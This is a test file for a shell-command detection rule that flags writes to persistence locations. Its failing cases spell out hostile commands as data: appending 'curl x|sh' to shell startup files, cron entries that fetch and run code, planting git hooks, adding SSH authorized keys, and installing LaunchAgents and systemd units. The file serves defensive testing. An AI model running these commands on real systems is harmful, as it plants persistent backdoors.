import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import rule from '../../../../server/src/core/rules/shell/persistence-path-write';
import { runShellRule, testShellRule } from '../../../helpers/shell-rule-tester';

testShellRule(rule, {
  valid: [
    'cat ~/.bashrc',
    'grep PATH ~/.zshrc',
    'echo hi >> notes.txt',
    'ls .git/hooks',
    'rm ~/.bashrc.bak',
    'cp .git/hooks/pre-commit.sample /tmp/x',
    'git config user.name x',
    'git config --global alias.co checkout',
    'git config --get core.pager',
    'git config --unset core.hooksPath',
    'git config --global credential.helper store',
    'git -c core.pager=less log',
  ],
  invalid: [
    {
      code: "echo 'curl x|sh' >> ~/.bashrc",
      errors: [{ messageId: 'write', line: 1, column: 18, severity: 'warning' }],
    },
    { code: 'echo "curl x|sh" >> $HOME/.zshrc', errors: [{ messageId: 'write', line: 1, column: 18 }] },
    { code: 'cp evil.sh .git/hooks/pre-commit', errors: [{ messageId: 'write', line: 1, column: 12 }] },
    {
      code: 'cat key.pub | tee -a ~/.ssh/authorized_keys',
      errors: [{ messageId: 'write', line: 1, column: 22 }],
    },
    {
      code: 'echo "* * * * * curl x|sh" > /etc/cron.d/job',
      errors: [{ messageId: 'write', line: 1, column: 28 }],
    },
    { code: 'cp x.service ~/.config/systemd/user/', errors: [{ messageId: 'write', line: 1, column: 14 }] },
    {
      code: 'ln -sf /tmp/x.plist ~/Library/LaunchAgents/x.plist',
      errors: [{ messageId: 'write', line: 1, column: 21 }],
    },
    { code: 'cd ~ && echo x >> .profile', errors: [{ messageId: 'write', line: 1, column: 16 }] },
    { code: 'git config core.hooksPath .githooks', errors: [{ messageId: 'write', line: 1, column: 1 }] },
    {
      code: "git config --global core.pager 'less -R'",
      errors: [{ messageId: 'write', line: 1, column: 1 }],
    },
    { code: "git config --system alias.x '!sh x.sh'", errors: [{ messageId: 'write', line: 1, column: 1 }] },
    {
      code: 'git config set --worktree core.editor vim',
      errors: [{ messageId: 'write', line: 1, column: 1 }],
    },
    {
      code: 'git config -f ~/.gitconfig include.path x.cfg',
      errors: [{ messageId: 'write', line: 1, column: 1 }],
    },
  ],
});

describe('persistence-path-write findings', () => {
  it('carry a persist effect on the path', async () => {
    const [f] = await runShellRule(rule, "echo 'curl x|sh' >> ~/.bashrc");
    assert.deepEqual(f?.effects, [
      { verb: 'persist', resource: { kind: 'path', id: '~/.bashrc' }, via: 'echo' },
    ]);
    assert.equal(f?.category, 'privilege');
  });
});
